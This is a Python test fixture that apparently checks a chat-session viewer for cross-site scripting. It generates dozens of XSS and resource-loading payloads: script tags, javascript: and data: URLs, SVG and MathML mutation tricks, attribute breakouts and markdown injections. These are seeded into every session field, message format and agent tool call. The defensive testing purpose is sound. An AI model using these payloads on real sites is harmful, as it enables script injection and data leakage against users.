"""Each known way in which a text becomes part of a page, for every field of a session that a page shows."""

from __future__ import annotations

import base64
from collections.abc import Sequence
from typing import Any

import clew

RUN = "window.__pwned=1"
PAGE = f"<script>{RUN}</script>"
PAGE_AS_DATA = f"data:text/html;base64,{base64.b64encode(PAGE.encode()).decode()}"
SVG_PAGE = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
SVG_AS_DATA = f"data:image/svg+xml;base64,{base64.b64encode(SVG_PAGE.encode()).decode()}"


def payloads(origin: str) -> tuple[str, ...]:
    """`origin`: a server that must never be asked for anything."""
    return (
        # scripts
        PAGE,
        f"<ScRiPt src={origin}script.js></ScRiPt>",
        f"<script type=module>import '{origin}module.js'</script>",
        f"<img src=x: onerror={RUN}>",
        f"<body onload={RUN}>",
        f"<details open ontoggle={RUN}>x</details>",
        f"<input autofocus onfocus={RUN}>",
        # addresses that run
        f"javascript:{RUN}",
        f"[click](javascript:{RUN})",
        f"[click](java\tscript:{RUN})",
        f"[click](&#106;avascript&colon;{RUN})",
        f"<a href=\"javascript:{RUN}\">click</a>",
        f"[click]({PAGE_AS_DATA})",
        f"![picture]({PAGE_AS_DATA})",
        f"<iframe src=\"{PAGE_AS_DATA}\"></iframe>",
        f"<object data=\"{PAGE_AS_DATA}\"></object><embed src=\"{PAGE_AS_DATA}\">",
        # SVG and MathML
        SVG_PAGE,
        f"![picture]({SVG_AS_DATA})",
        f"<svg><use href=\"{SVG_AS_DATA}#x\"/><image href={origin}image.svg></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
        f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
        f"<math><mtext><table><mglyph><style><!--</style><a title=\"--><img src=1 onerror={RUN}>\">",
        # out of scripts, comments, styles, attributes
        f"</script><script>{RUN}</script>",
        f"<!--<script>{RUN}//-->",
        f"--><script>{RUN}</script><!--",
        f"]]><script>{RUN}</script>",
        f"</style><script>{RUN}</script>",
        f"red;}}</style><script>{RUN}</script>",
        f"red;background:url({origin}colour.png)",
        f"\" onmouseover=\"{RUN}\" style=\"position:fixed;inset:0",
        f"' autofocus onfocus='{RUN}' x='",
        f"x onpointerenter={RUN} style=position:fixed;inset:0",
        f"\"><img src={origin}attribute.png onerror={RUN}>",
        f"</title></textarea></noscript></template></pre></code><script>{RUN}</script>",
        # what asks for something
        f"<meta http-equiv=refresh content=\"0;url={origin}refresh\">",
        f"<base href={origin}base/><img src=relative.png>",
        f"<form action={origin}form><input type=submit id=send></form><script>send.click()</script>",
        f"<iframe src={origin}frame srcdoc=\"{PAGE}\"></iframe>",
        f"<img srcset=\"{origin}one.png 1x, {origin}two.png 2x\">",
        f"<picture><source srcset={origin}source.png><img></picture>",
        f"<video poster={origin}poster.png src={origin}video.mp4 autoplay></video>",
        f"<audio src={origin}audio.mp3 autoplay></audio>",
        f"<style>@import '{origin}import.css';body{{background:url({origin}body.png)}}</style>",
        f"<p style=\"background:url({origin}style.png)\">x</p>",
        f"<link rel=prefetch href={origin}prefetch><link rel=preconnect href={origin}>",
        f"<link rel=dns-prefetch href={origin}><link rel=stylesheet href={origin}sheet.css>",
        f"<link rel=icon href={origin}icon.png><link rel=manifest href={origin}manifest.json>",
        f"<a href={origin}ping-page ping={origin}ping>click</a>",
        f"![picture]({origin}markdown.png)",
        f"![picture][p]\n\n[p]: {origin}reference.png",
        f"<table background={origin}table.png><td background={origin}cell.png>",
        # what becomes a tag only after it was read and written once more
        f"<noscript><p title=\"</noscript><img src={origin}noscript.png onerror={RUN}>\">",
        f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
        f"<template><script>{RUN}</script></template>",
        f"<xmp><p title=\"</xmp><img src=x: onerror={RUN}>\">",
        f"`<img src={origin}code.png onerror={RUN}>",
        f"```html\" onmouseover=\"{RUN}\n<img src={origin}fence.png>\n```",
        f"| a |\n|---|\n| <img src={origin}markdown-cell.png onerror={RUN}> |",
        f"&lt;img src={origin}entity.png onerror={RUN}&gt;",
        f"\u2028<script>{RUN}</script>\u2029",
        f"\u202e<script>{RUN}</script>",
    )  # fmt: skip


def session_of(store: clew.Store, attacks: Sequence[str]) -> str:
    """The id of a session with every payload in every field that takes it."""
    short = f'"><img src=x: onerror={RUN}></title><script>{RUN}</script>'
    everything = "\n\n".join(attacks)
    session = store.create(
        short,
        title=short,
        tags=[short, "' onmouseover='" + RUN],
        model=short,
        vendor=short,
        endpoint=short,
        metadata=dict(zip(attacks, attacks, strict=True)),
    )
    session.append({"role": "system", "content": everything}, {"role": everything, "content": everything})
    for attack in attacks:
        session.append(*_of_anthropic(attack), *_of_openai(attack), {"type": attack, attack: attack})
        session.append(*_of_known_tools(attack))
    entry = session.append({"role": "user", "content": everything})[0]
    session.annotate(entry, label=short)
    session.rewind(3)
    session.append({"role": "user", "content": everything})
    session.checkpoint(short)
    session.compact(everything)
    session.set_summary(everything)
    child = store.create("child", title=short, metadata={"parent": short, "agent_id": short})
    child.append({"role": "user", "content": everything}, *_of_known_tools(attacks[0]))
    return short


def _of_anthropic(attack: str) -> list[dict[str, Any]]:
    def media(kind: str, **source: str) -> dict[str, Any]:
        return {"type": kind, "source": source, "title": attack, "name": attack, "filename": attack}

    return [
        {
            "role": "assistant",
            "model": attack,
            "id": attack,
            "content": [
                {"type": "thinking", "thinking": attack, "signature": attack},
                {"type": "text", "text": attack, "citations": [{"title": attack, "url": attack}]},
                {"type": "tool_use", "id": attack, "name": attack, "input": {attack: attack}},
                {"type": attack, "text": attack, "style": attack, "color": attack},
            ],
        },
        {
            "role": "user",
            "name": attack,
            "content": [
                {"type": "tool_result", "tool_use_id": attack, "is_error": True, "content": attack},
                media("image", type="base64", media_type="image/png", data=attack),
                media("image", type="base64", media_type=attack, data=attack),
                media("image", type="base64", media_type="image/svg+xml", data=SVG_AS_DATA.partition(",")[2]),
                media("image", type="url", url=attack),
                media("document", type="text", media_type="text/html", data=attack),
                media("document", type="file", file_id=attack),
            ],
        },
    ]


def _of_known_tools(attack: str) -> list[dict[str, Any]]:
    """Calls that a page draws in ways of their own, each with its result."""
    hunk = f"@@ -1,2 +1,2 @@ {attack}\n {attack}\n-{attack}\n+{attack}\n"
    coloured = f"\x1b[1;31m{attack}\x1b[0m\x1b[38;2;9;9;9;48;5;200m{attack}\x1b]8;;{attack}\x07"
    called: list[tuple[str, dict[str, Any], str]] = [
        ("Bash", {"command": attack, attack: attack}, f"Exit code 1\n{coloured}"),
        ("Bash", {"command": "git diff"}, f"diff --git {attack}\n--- a/{attack}\n+++ b/x\n{hunk}"),
        ("Read", {"file_path": attack}, f"     1→{attack}\n     2→x\n     3→{attack}"),
        ("Write", {"file_path": f"{attack}.html", "content": attack}, attack),
        ("Edit", {"file_path": attack, "old_string": attack, "new_string": f"{attack}\n{attack}"}, attack),
        (
            "apply_patch",
            {"input": f"*** Begin Patch\n*** Add File: {attack}\n+{attack}\n*** End Patch"},
            attack,
        ),
        ("TodoWrite", {"todos": [{"content": attack, "status": "completed"}]}, attack),
        ("Task", {"description": attack, "prompt": attack, "subagent_type": attack}, attack),
        ("WebFetch", {"url": attack, "prompt": attack}, attack),
        (f"mcp__{attack}__{attack}", {attack: attack}, f'{{"x": "{attack}"}}'),
    ]
    messages: list[dict[str, Any]] = []
    for number, (name, arguments, result) in enumerate(called):
        id = f"{attack} {number}"
        call = {"type": "tool_use", "id": id, "name": name, "input": arguments}
        messages.append({"role": "assistant", "content": [call]})
        answer = {"type": "tool_result", "tool_use_id": id, "content": result}
        messages.append({"role": "user", "content": [answer]})
    return messages


def _of_openai(attack: str) -> list[dict[str, Any]]:
    call = {"id": attack, "type": "function", "function": {"name": attack, "arguments": attack}}
    return [
        {"role": "assistant", "name": attack, "content": None, "refusal": attack, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": attack, "name": attack, "content": attack},
        {
            "role": "user",
            "content": [
                {"type": "text", "text": attack},
                {"type": "image_url", "image_url": {"url": attack, "detail": attack}},
                {"type": "image_url", "image_url": {"url": SVG_AS_DATA}},
                {"type": "image_url", "image_url": {"url": PAGE_AS_DATA}},
                {"type": "file", "file": {"filename": attack, "file_data": attack}},
                {"type": "input_audio", "input_audio": {"format": attack, "data": attack}},
            ],
        },
    ]
